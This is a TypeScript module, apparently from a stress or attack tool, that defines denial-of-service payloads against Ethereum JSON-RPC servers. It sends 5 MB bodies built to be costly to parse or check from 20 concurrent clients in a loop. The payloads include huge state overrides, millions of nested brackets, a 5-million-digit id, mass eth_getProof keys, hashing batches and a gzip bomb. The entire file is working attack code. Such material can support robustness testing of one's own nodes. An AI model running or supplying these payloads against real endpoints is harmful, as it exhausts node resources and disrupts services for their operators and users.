import { gzipSync } from "node:zlib";
import { type Attack, post, repeat } from "./attack.js";

const CLIENTS = 20;
const ADDRESS = `0x${"11".repeat(20)}`;

/** Requests of one method that fill a body of 5 MB. */
function bigBody(name: string, body: string): Attack {
  return { name, run: (target, stopped) => repeat(CLIENTS, stopped, () => post(target, body)) };
}

function request(method: string, ...params: unknown[]): string {
  return JSON.stringify({ jsonrpc: "2.0", id: 1, method, params });
}

/** An object with distinct members. */
function members(count: number, name: (index: number) => string, value: unknown): object {
  return Object.fromEntries(Array.from({ length: count }, (_, i) => [name(i), value]));
}

const slot = (index: number) => `0x${index.toString(16).padStart(64, "0")}`;
const address = (index: number) => `0x${index.toString(16).padStart(40, "0")}`;
const cells = members(34_000, slot, `0x${"11".repeat(32)}`);
const hex = (characters: number) => `0x${"11".repeat(characters / 2)}`;

const COMPRESSED = gzipSync(request("web3_sha3", hex(5_000_000)));

/** Bodies of maximum size that are expensive to parse or to check. */
export const BIG_BODIES: readonly Attack[] = [
  bigBody(
    "state overrides of 34 000 cells",
    request("eth_call", { to: ADDRESS }, "latest", { [ADDRESS]: { stateDiff: cells } }),
  ),
  bigBody("state overrides of 90 000 accounts", request("eth_call", {}, "latest", members(90_000, address, {}))),
  bigBody("1.7 million empty arrays", `{"id":1,"method":"eth_chainId","params":[${"[],".repeat(1_700_000)}[]]}`),
  bigBody(
    "an object of 400 000 members",
    request(
      "eth_call",
      members(400_000, (i) => `m${i}`, 1),
    ),
  ),
  bigBody(
    "2.5 million brackets",
    `{"id":1,"method":"eth_chainId","params":${"[".repeat(2_500_000)}${"]".repeat(2_500_000)}}`,
  ),
  bigBody("a hex string of 5 MB", request("web3_sha3", hex(5_000_000))),
  bigBody("a call with 5 MB of data", request("eth_call", { to: ADDRESS, data: hex(5_000_000) }, "latest")),
  bigBody("a number of 5 million digits", `{"id":${"1".repeat(5_000_000)},"method":"eth_chainId"}`),
  bigBody(
    "70 000 storage keys to prove",
    request(
      "eth_getProof",
      ADDRESS,
      Array.from({ length: 70_000 }, (_, i) => slot(i)),
      "latest",
    ),
  ),
  bigBody(
    "batches of 100 requests of 50 kB",
    `[${Array(100)
      .fill(request("web3_sha3", hex(50_000)))
      .join()}]`,
  ),
  {
    name: "bodies of 5 MB compressed to 5 kB",
    run: (target, stopped) => repeat(CLIENTS, stopped, () => post(target, COMPRESSED, { "content-encoding": "gzip" })),
  },
];
